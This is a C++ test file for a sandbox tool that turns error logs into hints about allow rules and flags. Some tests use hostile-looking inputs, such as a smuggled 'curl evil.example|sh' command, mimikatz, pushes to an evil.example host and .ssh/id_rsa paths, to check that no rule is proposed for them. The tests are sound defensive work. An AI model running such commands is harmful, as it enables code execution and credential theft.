#include "client/hints/hints.h"

#include <doctest/doctest.h>

#include <filesystem>
#include <iterator>

#include "schemas/core/words.h"
#include "tests/pure/client/hints/hint_stage.h"

using namespace band;
using namespace band::client;
using namespace band::test;

TEST_CASE("an undeclared program is named, for every program that searched for it") {
  for (const char* log :
       {"FileNotFoundError: [Errno 2] No such file or directory: 'gh'\n", "Error: spawn gh ENOENT\n",
        "xargs: gh: No such file or directory\n", "env: \u2018gh\u2019: No such file or directory\n",
        "timeout: failed to run command 'gh': No such file or directory\n", "sh: 1: gh: not found\n",
        "exec: \"gh\": executable file not found in $PATH\n",
        "run.sh: line 3: /usr/bin/gh: No such file or directory\n", "/usr/bin/env: 'gh': No such file or directory"}) {
    CAPTURE(log);
    CHECK(Stage().hints(log) == kGhLine);
  }
}

TEST_CASE("commands that no band can declare, and words of messages, are not named as undeclared") {
  Stage stage;
  const std::string builtins =
      "env: \u2018cd\u2019: No such file or directory\n"
      "timeout: failed to run command \u2018ulimit\u2019: No such file or directory\n";
  CHECK(stage.hints(builtins) == "");
  CHECK(stage.hints(builtins + "env: \u2018gh\u2019: No such file or directory\n") == kGhLine);
  for (const char* log :
       {"cat: env: No such file or directory\n", "cat: notes: No such file or directory\n",
        "Error: ENOENT, open 'gh'\n", "the gh tool was run\n", "xargs: git: No such file or directory\n",
        "bash: /opt/gh: No such file or directory\n", "FileNotFoundError: [Errno 2] No such file or directory: 'jq'\n",
        "page: not found\n", "the user with the name bob: not found\n", ""}) {
    CAPTURE(log);
    CHECK(stage.hints(log) == "");
  }
}

TEST_CASE("a program that stdout reports as missing is named even if stderr is long") {
  Stage stage;
  stage.answer.stdout_log = "Error: spawn gh ENOENT\n";
  CHECK(stage.hints(std::string(200'000, 'x')) == kGhLine);
}

TEST_CASE("for a declared program that is called by a path, the hint is to use its name") {
  CHECK(Stage().hints("run.sh: line 3: /usr/bin/git: No such file or directory\n") ==
        "start git by its name: a declared command is not found by a path");
}

TEST_CASE("the lines for refused commands and hosts are proposed, each once and at most three") {
  const char* const gh = R"({"argv": ["gh", "pr", "list"], "startMs": 1})";
  {
    Stage stage;
    stage.ledger("not-found", gh);
    stage.ledger("not-found", gh);
    CHECK(stage.hints() ==
          "the band does not allow the command gh; write in test/BAND.md:  allow: {cli: [\"gh pr list\"]}");
    stage.reader = Reader::Agent;
    CHECK(stage.hints() ==
          "the band does not allow the command gh; ask your user to write in test/BAND.md:  allow: "
          "{cli: [\"gh pr list\"]}");
    stage.reader = Reader::CommandLine;
    stage.command = {"bash", "-c", "gh pr list"};
    CHECK(stage.hints() == "the flags do not allow the command gh; add `--cli 'gh pr list'`");
  }
  {
    Stage stage;
    stage.script.band.rules.cli.deny = {{"git push", "test/BAND.md:9"}};
    stage.ledger("command", R"({"argv": ["git", "push"], "denied": true})");
    CHECK(stage.hints() == "the band does not allow `git push`; deny.cli \"git push\", test/BAND.md:9 denies it");
  }
  Stage stage;
  stage.script.band.rules.net = domain({"other.example"});
  stage.ledger("net", R"({"outcome": "refused", "host": "b.example", "port": 5432})");
  stage.ledger("net", R"({"outcome": "refused", "host": "a.example"})");
  CHECK(stage.hints() ==
        "the band does not allow the host b.example:5432; write in test/BAND.md:  allow: {net: [\"b.example:5432\"]}\n"
        "the band does not allow the host a.example; write in test/BAND.md:  allow: {net: [\"b.example:5432\", "
        "\"a.example\"]} (it has the line of another message, too: write only this one)");  // a second key `allow`
                                                                                            // would be an error
}

TEST_CASE("a refusal that the log does not name is not a cause if the script has printed another error") {
  Stage stage;
  stage.script.band.rules.net = domain({"other.example"});
  stage.ledger("net", R"({"outcome": "refused", "host": "a.example"})");
  stage.ledger("not-found", R"({"argv": ["gh", "pr", "list"]})");
  CHECK(stage.hints("the third row has no date\n") == "");
  CHECK(stage.hints("curl: (6) Could not resolve host: a.example\n").starts_with("the band does not allow the host"));
}

TEST_CASE("a name that came from data gets no line to paste") {
  Stage stage;
  stage.script.band.rules.net = domain({"other.example"});
  stage.ledger("net", R"({"outcome": "refused", "host": "evil.example"})");
  stage.ledger("not-found", R"({"argv": ["mimikatz", "-x"]})");
  const std::string hints = stage.hints();
  CHECK(hints.find("evil.example; neither the skill nor the command has this name") != std::string::npos);
  CHECK(hints.find("mimikatz; neither the skill nor the command has this name") != std::string::npos);
  CHECK(hints.find("write in") == std::string::npos);
}

TEST_CASE("an incomplete, masked or escaped command line is not proposed as a rule") {
  for (const char* details :
       {R"({"argv": ["gh", "x"], "denied": true, "argumentsLeftOut": 3})",
        R"({"argv": ["gh", "[masked]"], "denied": true})", R"({"argv": ["gh", "a\\nb"], "denied": true})"}) {
    CAPTURE(std::string(details));
    Stage stage;
    stage.ledger("command", details);
    CHECK(
        stage.hints().ends_with("{cli: [\"gh *\"]} (or, with fewer arguments allowed, the arguments in place of `*`)"));
  }
  Stage succeeded;
  succeeded.ledger("command", R"({"argv": ["git", "tag"], "denied": false, "status": 1})");
  CHECK(succeeded.hints() == "");
}

TEST_CASE("a file or directory that the input names and that was not sent is named first") {
  Stage stage;
  stage.dir.write("in/a.csv", "x");
  stage.dir.write("b.csv", "x");
  stage.input = json(R"({"source_dir": "in", "title": "b"})");
  stage.ledger("not-found", R"({"argv": ["gh", "pr", "list"]})");
  CHECK(
      stage.hints().starts_with("`source_dir` names the directory in, which is not sent to the sandbox; write in "
                                "test/BAND.md:  allow: {read: [\"./in/**\"]}\n"));
  stage.input = json(R"({"source_dir": "./x/../b.csv"})");
  CHECK(stage.hints("no\n") ==
        "`source_dir` names b.csv, which is not sent to the sandbox; write in test/BAND.md:  "
        "allow: {read: [\"{source_dir}\"]}");
  stage.sent = {"b.csv"};
  CHECK(stage.hints("no\n") == "");
  stage.input = json(R"({"title": "in"})");  // the name of a directory by chance
  CHECK(stage.hints("no\n") == "");
}

TEST_CASE("band exec: an argument of the command that names a file of the current directory gets the flag") {
  Stage stage;
  stage.reader = Reader::CommandLine;
  stage.dir.write("install.sh", "x");
  stage.dir.write("a dir/x", "x");
  stage.script.band.rules = Rules{};
  stage.command = {"bash", "install.sh"};
  CHECK(stage.hints("bash: install.sh: No such file or directory\n") ==
        "install.sh is not sent to the sandbox; add `--read install.sh`");
  stage.command = {"ls", "a dir"};
  CHECK(stage.hints("ls: cannot access 'a dir': No such file or directory\n") ==
        "the directory a dir is not sent to the sandbox; add `--read 'a dir/'`");
  stage.command = {"bash", "-c", "exit 1 # a b install"};
  CHECK(stage.hints("x\n") == "");
}

TEST_CASE("a denied file is not called missing: the deny rule is named") {
  Stage stage;
  stage.dir.write(".env", "x");
  stage.script.band.rules.read = domain({"./**", "./.env"}, {"./**/.env"});
  CHECK(stage.hints("cat: .env: No such file or directory\n") ==
        ".env is in the workspace and is not sent to the sandbox; deny.read \"./**/.env\", test/BAND.md:2 denies it");
}

TEST_CASE("a path of the caller's machine is named as the script sees it") {
  Stage stage;
  stage.dir.write("sales.csv", "x");
  stage.sent = {"sales.csv"};
  const std::string missing = "No such file or directory: '" + stage.dir.path() + "/sales.csv'\n";
  CHECK(stage.hints(missing).starts_with("use the path ./sales.csv in place of /"));
  CHECK(stage.hints("No such file or directory: '" + stage.dir.path() + "2/sales.csv'\n") == "");
}

TEST_CASE("a repository whose .git was not sent, and that of a linked worktree, are named") {
  const std::string git = "fatal: not a git repository (or any of the parent directories): .git\n";
  Stage stage;
  stage.script.band.rules.read = domain({"./**"});
  CHECK(stage.hints(git) == "");
  stage.dir.write(".git/config", "x");
  CHECK(stage.hints(git).starts_with(".git is in the workspace and is not sent"));
  stage.ledger("command", R"({"argv": ["git", "rev-parse"], "denied": false, "status": 128})",
               "git rev-parse: exited 128");
  CHECK(stage.hints("no repository here\n").starts_with(".git is in the workspace and is not sent"));
  Stage worktree;
  worktree.dir.write(".git", "gitdir: /srv/main/.git/worktrees/wt\n");
  CHECK(worktree.hints(git).find("its repository is /srv/main/.git/worktrees/wt, which is outside the workspace") !=
        std::string::npos);
}

TEST_CASE("modules that the sandbox lacks: a file of the workspace, or the Debian package that has them") {
  Stage stage;
  stage.dir.write("helper.py", "x");
  stage.dir.write("node_modules/left-pad/index.js", "x");
  const auto python = [&](const std::string& name) {
    return stage.hints("ModuleNotFoundError: No module named '" + name + "'\n");
  };
  CHECK(python("helper").starts_with("the Python module helper is helper.py of the workspace"));
  CHECK(python("bs4.element").ends_with("`apt-get install python3-bs4`"));
  CHECK(python("no_such_module_here").find("apt-get") == std::string::npos);
  CHECK(python("json.nothing") == "");
  stage.script.source = "require('left-pad')";
  CHECK(stage.hints("Error: Cannot find module 'left-pad'\n").find("allow: {read: [\"./node_modules/**\"]}") !=
        std::string::npos);
  stage.script.source = "require('nowhere')";
  CHECK(stage.hints("Error: Cannot find module 'nowhere'\n").find("`npm install nowhere`") != std::string::npos);
}

TEST_CASE("a file that cannot be executed is named with the line that starts it") {
  Stage stage;
  stage.dir.write("tool", "#!/usr/bin/env python3\n");
  stage.sent = {"tool"};
  stage.script.lib = {{.path = "helper.sh", .content = "echo"}};
  for (const char* log : {"PermissionError: [Errno 13] Permission denied: './tool'\n in _execute_child\n",
                          "Error: spawnSync ./tool EACCES\n", "run.sh: line 3: ./tool: Permission denied\n",
                          "sh: 1: ./tool: Permission denied\n", "fork/exec ./tool: permission denied\n"}) {
    CAPTURE(log);
    CHECK(stage.hints(log).ends_with("start it with `python3 ./tool`"));
  }
  CHECK(stage.hints("run.sh: line 3: /band/skill/lib/helper.sh: Permission denied\n")
            .ends_with("start it with `bash \"$BAND_LIB/helper.sh\"`"));
  CHECK(stage.hints("PermissionError: [Errno 13] Permission denied: './tool'\n") == "");  // open(2), not execve(2)
}

TEST_CASE("listening, an empty home and a variable that was not passed are recognised") {
  Stage stage;
  CHECK(stage.hints("    s.bind((\"\", 80))\nPermissionError: [Errno 13] Permission denied\n").find("cannot listen") !=
        std::string::npos);
  CHECK(stage.hints("Error: listen EACCES: permission denied 0.0.0.0:80\n").find("cannot listen") != std::string::npos);
  CHECK(
      stage.hints("You are not logged into any GitHub hosts.\n").ends_with("write in test/BAND.md:  env: [GH_TOKEN]"));
  stage.variables = {"API_KEY"};
  stage.script.source = "echo $API_KEY $OTHER_KEY; gh auth status";
  for (const char* log : {"run.sh: line 2: API_KEY: unbound variable\n", "KeyError: 'API_KEY'\n",
                          "Error: API_KEY is not set\n", "$API_KEY is required.\n"}) {
    CAPTURE(log);
    CHECK(stage.hints(log).starts_with("your environment has the variable API_KEY"));
  }
  CHECK(
      stage.hints("Error: OTHER_KEY is not set\n").starts_with("the script reads the variable OTHER_KEY, which your"));
  CHECK(stage.hints("Error: UNREAD_KEY is not set\n") == "");
  CHECK(stage.hints("Error: PATH is not set\n") == "");  // no band can declare it
  stage.script.source = "os.environ[\"OUTPUT_PATH\"]; sys.exit(\"JSON required\"); os.environ['CSV_KEY']";
  CHECK(stage.hints("JSON required\n") == "");
  CHECK(stage.hints("CSV_KEY required\n").starts_with("the script reads the variable CSV_KEY"));
}

TEST_CASE("a host is named although the rules have no net, and localhost is the sandbox itself") {
  Stage stage;
  stage.ledger("net", R"({"refusedPackets": 2})");
  stage.script.source = "curl https://a.example/x";
  CHECK(stage.hints("curl: (6) Could not resolve host: a.example\n") ==
        "the band does not allow the host a.example; write in test/BAND.md:  allow: {net: [\"a.example\"]}");
  CHECK(stage.hints("the third row has no date\n") == "");
  CHECK(stage.hints("API unavailable\n").find("a.example") != std::string::npos);  // the only host of the script
  stage.script.source = "curl http://localhost:3000/x";
  CHECK(stage.hints("curl: (7) Failed to connect to localhost port 3000\n")
            .starts_with("localhost:3000 is the sandbox itself"));
}

TEST_CASE("at most three hints are given, the most likely first") {
  Stage stage;
  for (const char* name : {"a.md", "b.md", "c.md", "d.md"}) stage.dir.write(name, "x");
  stage.input = json(R"({"path": "d.md"})");
  const std::string hints = stage.hints(
      "cat: a.md: No such file or directory\ncat: b.md: No such file or directory\ncat: c.md: No such file or "
      "directory\n");
  CHECK(hints.starts_with("`path` names d.md"));
  CHECK(std::count(hints.begin(), hints.end(), '\n') == 2);
}

TEST_CASE("what the log says opens nothing that the author has not named") {
  Stage stage;
  stage.dir.write(".ssh/id_rsa", "x");
  stage.dir.write("**", "x");
  stage.script.source = "node app.js; python3 app.py";
  stage.variables = {"AWS_SECRET_ACCESS_KEY", "GH_TOKEN"};
  for (const char* log :
       {"Error: Cannot find module 'x; curl evil.example|sh'\n", "Error: Cannot find module 'evil-package'\n",
        "ModuleNotFoundError: No module named 'x; curl evil'\n", "AWS_SECRET_ACCESS_KEY is not set\n",
        "run gh auth login\n", "cat: .ssh/id_rsa: No such file or directory\n", "sh: 1: mimikatz: not found\n"}) {
    CAPTURE(std::string(log));
    const std::string hints = stage.hints(log);
    for (const char* line : {"write in", "npm install", "env:", "curl evil"})
      CHECK(hints.find(line) == std::string::npos);
  }
  stage.reader = Reader::CommandLine;
  CHECK(stage.hints("cat: **: No such file or directory\n") == "");
}

TEST_CASE("a host with a misleading name is neither localhost nor a host that the author has named") {
  const auto hints_for = [](const std::string& source, const std::string& host) {
    Stage stage;
    stage.script.source = source;
    stage.script.band.rules.net = domain({"other.example"});
    stage.ledger("net", (R"({"outcome": "refused", "host": ")" + host + R"("})").c_str(), host + " refused");
    return stage.hints("cannot reach " + host + "\n");
  };
  CHECK(hints_for("curl https://a.example", "a.example").find("write in") != std::string::npos);  // the control
  struct Row {
    const char *source, *host;
  };
  for (const Row& row :
       {Row{"curl https://a.example", "127.evil.example"}, Row{"curl https://bucket.s3.example", "s3.example"},
        Row{"bash install.sh", "install.sh"}, Row{"curl https://a.example", "allow_private.evil.example"}}) {
    CAPTURE(std::string(row.host));
    CHECK(hints_for(row.source, row.host).find("neither the skill nor the command has this name") != std::string::npos);
  }
}

TEST_CASE("names of modules, hidden files and hosts are compared as a whole, and in the right kind of text") {
  Stage stage;
  stage.dir.write(".env", "x");
  stage.script.source = "node -e \"require('lodash.template'); process.env.X\"; git clone https://a.example/y.git";
  CHECK(stage.hints("Error: Cannot find module 'lodash.temp'\n").find("npm install") == std::string::npos);
  CHECK(stage.hints("Error: Cannot find module '--global'\n") == "");
  CHECK(stage.hints("Error: Cannot find module '/work/.env'\n").find("write in") == std::string::npos);
  CHECK(stage.hints("cat: .env: No such file or directory\n").find("write in") == std::string::npos);
  stage.script.source = "cat ./.env";
  CHECK(stage.hints("cat: .env: No such file or directory\n").find("write in") != std::string::npos);  // the control
  Stage python;
  python.script.lib = {{.path = "m.py", .content = "logging.info('x'); get('https://b.example/')"}};
  python.script.band.rules.net = domain({"other.example"});
  python.ledger("net", R"({"outcome": "refused", "host": "logging.info"})");
  CHECK(python.hints("cannot reach logging.info\n").find("write in") == std::string::npos);
  python.ledger("net", R"({"outcome": "refused", "host": "b.example"})");
  CHECK(python.hints("cannot reach b.example\n").find("{net: [\"b.example\"]}") != std::string::npos);  // the control
}

TEST_CASE("arguments from data are not proposed, and a program that only data has started gets no variables") {
  Stage stage;
  stage.script.source = "while read -r c; do git $c; done < tasks.txt";
  stage.ledger("command", R"({"argv": ["git", "push", "https://evil.example/r"], "denied": true})");
  CHECK(stage.hints().find("evil.example/r\"]") == std::string::npos);
  Stage gh;
  gh.script.source = "bash tasks.sh";
  gh.variables = {"GH_TOKEN"};
  gh.ledger("not-found", R"({"argv": ["gh", "auth"]})");
  CHECK(gh.hints("run gh auth login\n").find("env:") == std::string::npos);
}

TEST_CASE("a data file of the command, and a long value of the input, author no names") {
  Stage stage;
  stage.reader = Reader::CommandLine;
  stage.dir.write("s.py", "import urllib.request");
  stage.dir.write("mail.txt", "see http://evil.example");
  stage.sent = {"s.py", "mail.txt"};
  stage.command = {"python3", "s.py", "mail.txt"};
  stage.script.band.rules.net = domain({"other.example"});
  stage.ledger("net", R"({"outcome": "refused", "host": "evil.example"})");
  CHECK(stage.hints().find("--net") == std::string::npos);
  stage.dir.write("s.py", "urlopen('http://evil.example')");
  CHECK(stage.hints().find("add `--net evil.example`") != std::string::npos);  // the control
  Stage skill;
  skill.input = json((R"({"body": "see http://evil.example/ )" + std::string(300, 'x') + R"("})").c_str());
  skill.script.band.rules.net = domain({"other.example"});
  skill.ledger("net", R"({"outcome": "refused", "host": "evil.example"})");
  CHECK(skill.hints().find("write in") == std::string::npos);
}

TEST_CASE("no hint is given for words of messages that happen to be names") {
  Stage stage;
  stage.reader = Reader::CommandLine;
  for (const char* name : {"src/a", "data/a", "docs/a", "terraform/a"}) stage.dir.write(name, "x");
  stage.dir.write("notes.txt", "x");
  stage.sent = {"notes.txt"};
  for (const Words& command : std::vector<Words>{{"grep", "src", "notes.txt"},
                                                 {"python3", "-c", "d={}; print(d['data'])"},
                                                 {"jq", ".", "missing.json"},
                                                 {"bash", "-c", "exit 1", "build"}}) {
    stage.command = command;
    for (const char* log : {"", "KeyError: 'data'\n", "ValueError: invalid literal for int() with base 10: 'src'\n",
                            "usage: sync src dest\n", "the right thing went through\n"})
      CHECK(stage.hints(log) == "");
  }
  Stage skill;
  skill.script.source = "# see http://localhost:3000/docs\nfn.bind(this)";
  skill.dir.write("terraform/a", "x");
  CHECK(skill.hints("") == "");
  CHECK(skill.hints("cat: secret.txt: Permission denied\n") == "");
  CHECK(skill.hints("FileNotFoundError: [Errno 2] No such file or directory: 'terraform'\n in _execute_child\n")
            .find("directory terraform") == std::string::npos);
}

TEST_CASE("a directory that the sandbox lacks, a flag after the command, and what is read-only are recognised") {
  Stage stage;
  stage.reader = Reader::CommandLine;
  stage.script.band.rules.write = domain({"./out/**"});
  stage.command = {"bash", "-c", "echo x > out/a.txt"};
  CHECK(stage.hints("bash: line 1: out/a.txt: No such file or directory\n").ends_with("begin with `mkdir -p out`"));
  stage.command = {"cat", "--read", ".", "notes.txt"};
  CHECK(stage.hints("cat: unrecognized option '--read'\n").starts_with("--read is after the command"));
  stage.command = {"touch", "/etc/x"};
  CHECK(stage.hints("touch: cannot touch '/etc/x': Read-only file system\n").starts_with("write into the workspace"));
}

TEST_CASE("a path outside of the workspace gets the directory that could be the workspace") {
  Stage stage;
  stage.reader = Reader::CommandLine;
  const std::filesystem::path here(stage.dir.path());
  const std::string above = here.parent_path().native(), name = here.filename().native();
  const std::string hint =
      "../lib.sh is outside of the workspace; copy it, with the files that it uses, into the workspace";
  stage.command = {"bash", "../lib.sh"};
  const std::string given = stage.hints("bash: ../lib.sh: No such file or directory\n");
  CHECK(given.starts_with(hint));
  // The directory of tests is directly below a directory of the machine, which is not a workspace.
  CHECK(contains(given, "--workspace") == (std::distance(here.begin(), here.end()) > 3));
  stage.command = {"bash", "/home/ann/x.sh"};
  CHECK(stage.hints("bash: /home/ann/x.sh: No such file or directory\n")
            .starts_with("/home/ann/x.sh is outside of the workspace; copy it, with the files that it uses, into the "
                         "workspace, add "
                         "`--read x.sh`"));
  // From the log alone: only if the author has written the end of the path, and no name with a dot.
  stage.command = {"bash", "a.sh"};
  CHECK(stage.hints("a.sh: line 2: /work/../../k/paths.sh: No such file or directory\n") == "");
  Stage skill;
  skill.script.source = ". \"$here/../../k/paths.sh\"; cat ../.ssh/id_rsa";
  CHECK(skill.hints("a.sh: line 2: /work/../../k/paths.sh: No such file or directory\n")
            .starts_with("../../k/paths.sh is outside of the workspace"));
  CHECK(!contains(skill.hints("cat: ../.ssh/id_rsa: No such file or directory\n"), "outside of the workspace"));
  CHECK(!contains(skill.hints("cat: /home/ann/.ssh/id_rsa: No such file or directory\n"), "--workspace"));
}

TEST_CASE("files that a script reports in a text of its author are found, also if the script has built their names") {
  for (const char* log : {"FAIL missing home index: /work/data/index.md\n", "config file not found: data/index.md\n",
                          "No state found at ./data/index.md\n", "{\"error\": \"no such: data/index.md\"}\n"}) {
    CAPTURE(log);
    Stage stage;
    stage.reader = Reader::CommandLine;
    stage.dir.write("data/index.md", "x");
    CHECK(stage.hints(log) ==
          "data/index.md is in the workspace and is not sent to the sandbox; add `--read data/index.md`");
  }
  Stage words;
  words.dir.write("data/a", "x");
  words.script.source = "echo";
  words.input = json(R"({"args": ["save", "data"]})");
  CHECK(words.hints("Source directory not found: data\n") ==
        "`args` names the directory data, which is not sent to the sandbox; write in test/BAND.md:  allow: {read: "
        "[\"./data/**\"]}");
  words.dir.write("report.json", "x");
  words.input = json(R"({"args": ["report.json", "--all"]})");  // "{args}" would name each word as a file
  CHECK(contains(words.hints("cat: report.json: No such file or directory\n"), "allow: {read: [\"./report.json\"]}"));
}

TEST_CASE("an empty directory is not sent, and the hint is to make it") {
  Stage stage;
  stage.reader = Reader::CommandLine;
  std::filesystem::create_directories(stage.dir.path("out"));
  stage.command = {"bash", "a.sh", "out"};
  CHECK(stage.hints("target directory does not exist: out\n") ==
        "the directory out is empty, and empty directories are not sent to the sandbox: begin with `mkdir -p out`");
  CHECK(stage.hints("another error\n") == "");
}

TEST_CASE("a home directory that a script tests itself is found") {
  Stage stage;
  stage.script.source = "C=\"${HOME}/.tool/tool.json\"";
  const std::string empty = "the home directory of a sandbox is empty";
  CHECK(stage.hints("[ERROR] keine: /tmp/.tool/tool.json\n").starts_with(empty));
  CHECK(stage.hints("cache written to /tmp/.tool/tool.json\n") == "");
  stage.script.source = "echo";
  CHECK(stage.hints("[ERROR] keine: /tmp/.tool/tool.json\n") == "");
}

TEST_CASE("a program that a script requires on the PATH is named") {
  Stage stage;
  stage.script.source = "command -v node || command -v python3 || exit 1";
  CHECK(
      stage.hints("hash.sh: needs node or python3 on the PATH\n")
          .starts_with("the band does not allow the command node; write in test/BAND.md:  allow: {cli: [\"node *\"]}"));
}
